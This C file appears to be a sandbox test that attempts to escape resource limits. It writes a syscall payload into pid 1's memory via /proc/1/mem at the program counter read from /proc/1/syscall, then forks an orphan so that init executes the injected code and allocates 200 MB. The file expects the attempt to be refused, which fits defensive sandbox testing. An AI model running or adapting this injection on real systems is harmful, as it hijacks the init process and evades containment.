// Tries to put code into pid 1, which would then allocate 200 MB behind its standard input, free of the limits of the program.
// Must end as finished, with nothing written.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#if defined(__aarch64__)
#define CALL(result, number, a, b, c, d) \
  ({ \
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = (long)(a), x1 __asm__("x1") = (long)(b), \
                  x2 __asm__("x2") = (long)(c), x3 __asm__("x3") = (long)(d); \
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory"); \
    result = x0; \
  })
enum { OPENAT = 56, FALLOCATE = 47, EXIT_GROUP = 94 };
#else
#define CALL(result, number, a, b, c, d) \
  ({ \
    register long r10 __asm__("r10") = (long)(d); \
    __asm__ volatile("syscall" \
                     : "=a"(result) \
                     : "a"((long)number), "D"((long)(a)), "S"((long)(b)), "d"((long)(c)), "r"(r10) \
                     : "rcx", "r11", "memory"); \
  })
enum { OPENAT = 257, FALLOCATE = 285, EXIT_GROUP = 231 };
#endif

/** Runs in another process, so it must not refer to anything: the path is spelled in two numbers. */
__attribute__((noinline, noreturn)) static void payload(void) {
  volatile unsigned long path[2] = {0x65732f636f72702fUL, 0x00302f64662f666cUL}; // "/proc/self/fd/0"
  long file, answer;
  CALL(file, OPENAT, -100, path, O_RDWR, 0);
  CALL(answer, FALLOCATE, file, 0, 0, 200L << 20);
  CALL(answer, EXIT_GROUP, answer == 0 ? 66 : 67, 0, 0, 0);
  __builtin_unreachable();
}

int main(void) {
  int memory = open("/proc/1/mem", O_RDWR);
  if (memory < 0) {
    printf("refused: the memory of pid 1: %s\n", strerror(errno));
    return 0;
  }
  char text[256] = "";
  int where = open("/proc/1/syscall", O_RDONLY);
  read(where, text, sizeof text - 1);
  unsigned long counter = strtoul(strrchr(text, ' ') ? strrchr(text, ' ') : "0", NULL, 16);
  if (counter == 0) {
    printf("refused: the registers of pid 1: %s\n", text);
    return 0;
  }
  if (pwrite(memory, (void *)payload, 512, counter) < 0) {
    printf("refused: writing: %s\n", strerror(errno));
    return 0;
  }
  puts("ESCAPED: wrote into pid 1");
  fflush(stdout);
  // An orphan ends: pid 1 wakes up, in the code above.
  if (fork() == 0) {
    if (fork() == 0) _exit(0);
    _exit(0);
  }
  wait(NULL);
  sleep(1);
}
